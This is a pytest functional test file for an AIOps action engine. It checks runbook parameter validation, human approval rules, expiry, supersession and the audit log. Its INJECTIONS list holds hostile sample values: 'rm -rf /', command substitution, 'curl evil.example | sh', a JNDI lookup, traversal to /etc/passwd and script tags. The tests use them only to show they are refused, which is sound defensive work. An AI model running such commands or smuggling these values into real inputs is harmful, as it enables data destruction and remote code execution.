"""The matcher's and orchestrator's logic on a real SQLite document store and audit chain, with the real script
executor: hostile values from alerts and incidents never reach a program; people's requests; expiry; replays."""

from __future__ import annotations

import stat
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from aiops_action.engine import ActionEngine, Refusal
from aiops_action.executions import ExecutionBook
from aiops_action.executors import Executors, HttpExecutor, ScriptExecutor
from aiops_action.policy import ApprovalPolicy
from aiops_action.runbooks.loader import parse_runbook
from aiops_action.runbooks.testing import cause, incident, rca
from aiops_action.runner import Runner
from aiops_action.settings import ActionSettings
from aiops_common.audit import AuditLog, verify
from aiops_common.documents import DocumentStore, open_document_store
from aiops_common.schemas import (
    ApprovalDecision,
    ApprovalRecord,
    CauseKind,
    ExecutionRecord,
    ExecutionStatus,
    IncidentRecord,
)

pytestmark = pytest.mark.functional

#: What alert labels and incident fields may carry: shell and template syntax, traversal, newlines, long values.
INJECTIONS = [
    "x; rm -rf /",
    "$(id)",
    "`id`",
    "a && curl evil.example | sh",
    "{{7*7}}",
    "{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "..",
    "line\nbreak",
    "cr\rlf",
    "nul\x00byte",
    "'single'",
    '"double"',
    "<script>alert(1)</script>",
    "a" * 5000,
    "-rf",
    "--output=/etc/passwd",
]

RUNBOOK = """
id: record-disk
version: 1
title: Clean a disk
risk: medium
match:
  cause_kinds: [saturation]
parameters:
  service: {type: string, pattern: "[a-z0-9]([-a-z0-9]*[a-z0-9])?", max_length: 63, from: cause.service}
  disk: {type: string, pattern: "[a-z0-9][a-z0-9_-]*", max_length: 63, from: labels.disk}
steps:
  - name: record
    kind: script
    action: run
    arguments: {argv: ["RECORDER", {param: service}, {param: disk}]}
verify:
  series: disk_used_percent
  match: {service: {param: service}}
  upper: 80
  within_s: 60
"""


@dataclass
class World:
    engine: ActionEngine
    runner: Runner
    documents: DocumentStore
    published: list[ExecutionRecord]
    recorded: Path


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[World]:
    recorded = tmp_path / "argv.log"
    recorder = tmp_path / "recorder.sh"
    recorder.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" >> {recorded}\n')
    recorder.chmod(recorder.stat().st_mode | stat.S_IXUSR)
    runbook = parse_runbook(RUNBOOK.replace("RECORDER", str(recorder)), "record-disk.yaml")
    settings = ActionSettings(data_dir=tmp_path, action_approval_ttl_s=60)
    documents = open_document_store(f"sqlite:///{tmp_path / 'documents.sqlite'}")
    published: list[ExecutionRecord] = []

    async def publish(record: ExecutionRecord) -> None:
        published.append(record)

    book = ExecutionBook(documents, AuditLog(documents), publish)
    executors = Executors(HttpExecutor(), ScriptExecutor())
    engine = ActionEngine(
        settings,
        [runbook],
        ApprovalPolicy.from_settings(settings),
        executors,
        None,
        documents,
        book,
        incident_waits_s=(),
    )
    runner = Runner(book, executors, None, None, lease_s=5, instance="test")
    try:
        yield World(engine, runner, documents, published, recorded)
    finally:
        await runner.stop()
        await documents.close()


async def _open(world: World, record: IncidentRecord) -> None:
    await world.documents.upsert("incidents", record.id, record.document())


async def test_hostile_values_in_labels_and_services_never_reach_a_program(world: World) -> None:
    for n, value in enumerate(INJECTIONS):
        for where in ("service", "label"):
            service = value if where == "service" else "checkout"
            labels = {"disk": value if where == "label" else "data"}
            record = incident(service, labels=labels, incident_id=f"inc-{where}-{n}")
            await _open(world, record)
            outcome = await world.engine.on_rca(rca(record, [cause(service, CauseKind.SATURATION)]))
            assert isinstance(outcome, ExecutionRecord), (value, outcome)
            assert outcome.status is ExecutionStatus.REFUSED, value
            param = "service" if where == "service" else "disk"
            assert f"parameter {param!r}" in outcome.error, outcome.error
            assert outcome.steps == [] and outcome.dry_run == []
    assert not world.recorded.exists()  # no dry run, no step: nothing ran
    # A fitting value goes through, and reaches the program as one literal argument.
    fine = incident("checkout", labels={"disk": "data-1"}, incident_id="inc-fine")
    await _open(world, fine)
    proposed = await world.engine.on_rca(rca(fine, [cause("checkout", CauseKind.SATURATION)]))
    assert isinstance(proposed, ExecutionRecord) and proposed.status is ExecutionStatus.PENDING_APPROVAL
    assert proposed.dry_run[0].summary.startswith("would run")
    assert not world.recorded.exists()
    decision = ApprovalRecord(
        decision=ApprovalDecision.APPROVE, execution_id=proposed.id, by="alice", at=datetime.now(UTC)
    )
    approved = await world.engine.on_decision(decision)
    assert isinstance(approved, ExecutionRecord) and approved.status is ExecutionStatus.APPROVED
    assert await world.runner.start(proposed.id)
    await world.runner.tasks[proposed.id]
    assert world.recorded.read_text() == "checkout\ndata-1\n"
    report = await verify(world.documents)
    assert report.intact


async def test_a_persons_request_their_own_approval_refused_and_a_replay_proposing_nothing(world: World) -> None:
    record = incident("checkout", labels={"disk": "data"}, incident_id="inc-req")
    await _open(world, record)
    request = ApprovalRecord(
        decision=ApprovalDecision.REQUEST,
        by="dave",
        at=datetime.now(UTC),
        incident_id=record.id,
        runbook_id="record-disk",
        comment="disk alarms on checkout",
    )
    proposed = await world.engine.on_decision(request)
    assert isinstance(proposed, ExecutionRecord)
    assert proposed.requested_by == "dave" and proposed.attempt == 1 and proposed.note == "disk alarms on checkout"
    assert proposed.status is ExecutionStatus.PENDING_APPROVAL
    again = await world.engine.on_decision(request)
    assert isinstance(again, Refusal) and again.reason == "execution_active"
    own = await world.engine.on_decision(
        ApprovalRecord(decision=ApprovalDecision.APPROVE, execution_id=proposed.id, by="dave", at=datetime.now(UTC))
    )
    assert isinstance(own, Refusal) and own.reason == "refused_403"
    # the RCA result for the same incident, taken again after a restart, proposes nothing more
    result = rca(record, [cause("checkout", CauseKind.SATURATION)])
    assert isinstance(await world.engine.on_rca(result), Refusal)
    unknown = ApprovalRecord(
        decision=ApprovalDecision.REQUEST, by="dave", at=datetime.now(UTC), incident_id=record.id, runbook_id="nope"
    )
    assert (await world.engine.on_decision(unknown)) == Refusal("unknown_runbook", "no runbook 'nope' is loaded")
    entries = (await world.documents.query("audit", limit=100, oldest_first=True)).documents
    actions = [(e.body["action"], e.body["actor"]) for e in entries]
    assert ("execution.requested", "dave") in actions and ("approve.refused", "dave") in actions
    assert ("request.refused", "dave") in actions


async def test_a_pending_execution_expires_and_a_later_approval_is_refused(world: World) -> None:
    record = incident("checkout", labels={"disk": "data"}, incident_id="inc-ttl")
    await _open(world, record)
    proposed = await world.engine.on_rca(rca(record, [cause("checkout", CauseKind.SATURATION)]))
    assert isinstance(proposed, ExecutionRecord)
    world.runner.clock = lambda: datetime.now(UTC) + timedelta(seconds=61)
    await world.runner.sweep()
    found = await world.engine.book.get(proposed.id)
    assert found is not None and found[0].status is ExecutionStatus.EXPIRED
    assert world.published[-1].status is ExecutionStatus.EXPIRED
    late = await world.engine.on_decision(
        ApprovalRecord(decision=ApprovalDecision.APPROVE, execution_id=proposed.id, by="alice", at=datetime.now(UTC))
    )
    assert isinstance(late, Refusal) and "expired" in late.message


async def test_a_newer_ranking_supersedes_the_waiting_proposal_and_its_approval_does_not_carry_over(
    world: World,
) -> None:
    first = incident("checkout", labels={"disk": "data"}, incident_id="inc-moved")
    await _open(world, first)
    proposed = await world.engine.on_rca(rca(first, [cause("checkout", CauseKind.SATURATION)]))
    assert isinstance(proposed, ExecutionRecord) and proposed.rca_revision == 1
    # two approvers needed (as for a high blast radius): alice's approval is one of two when the ranking moves
    found = await world.engine.book.get(proposed.id)
    assert found is not None
    await world.engine.book.save(found[0].model_copy(update={"required_approvals": 2}), found[1])
    alice = ApprovalRecord(
        decision=ApprovalDecision.APPROVE, execution_id=proposed.id, by="alice", at=datetime.now(UTC)
    )
    half = await world.engine.on_decision(alice)
    assert isinstance(half, ExecutionRecord) and half.status is ExecutionStatus.PENDING_APPROVAL

    second = first.model_copy(update={"revision": 2})
    await _open(world, second)
    newer = rca(second, [cause("payment", CauseKind.SATURATION), cause("checkout", CauseKind.SATURATION)])
    moved = await world.engine.on_rca(newer)
    assert isinstance(moved, ExecutionRecord), moved
    assert (moved.cause_service, moved.attempt, moved.status) == ("payment", 2, ExecutionStatus.PENDING_APPROVAL)
    assert moved.replaces == proposed.id and moved.rca_revision == 2 and moved.approvers() == []
    assert f"proposed instead of {proposed.id} (record-disk on checkout)" in moved.note
    old = await world.engine.book.get(proposed.id)
    assert old is not None and old[0].status is ExecutionStatus.SUPERSEDED and old[0].superseded_by == moved.id
    note = old[0].history[-1].note
    assert note.startswith(f"superseded by the newer ranking ({newer.id}, revision 2, payment first)"), note
    assert f"1 of 2 approvals given (alice) do not carry over: {moved.id} needs its own" in note
    assert [r.status for r in world.published if r.id == proposed.id][-1] is ExecutionStatus.SUPERSEDED

    # replays of either ranking propose nothing; an approval of the superseded one is refused
    assert await world.engine.on_rca(newer) == Refusal(
        "proposed_already", f"record-disk on payment waits for approval for inc-moved already ({moved.id})"
    )
    replayed = await world.engine.on_rca(rca(first, [cause("checkout", CauseKind.SATURATION)]))
    assert isinstance(replayed, Refusal) and replayed.reason == "older_ranking"
    bob = ApprovalRecord(decision=ApprovalDecision.APPROVE, execution_id=proposed.id, by="bob", at=datetime.now(UTC))
    late = await world.engine.on_decision(bob)
    assert isinstance(late, Refusal) and late.reason == "refused_409" and "is superseded" in late.message
    executions = await world.engine.book.of_incident("inc-moved")
    assert sorted((e.cause_service, e.status.value) for e in executions) == [
        ("checkout", "superseded"),
        ("payment", "pending_approval"),
    ]
    entries = [e.body for e in (await world.documents.query("audit", limit=100, oldest_first=True)).documents]
    superseded = [e for e in entries if e["action"] == "execution.superseded"]
    assert len(superseded) == 1 and superseded[0]["subject_id"] == proposed.id
    assert superseded[0]["details"]["superseded_by"] == moved.id
    assert superseded[0]["details"]["approvals_dropped"] == ["alice"]
    assert (await verify(world.documents)).intact
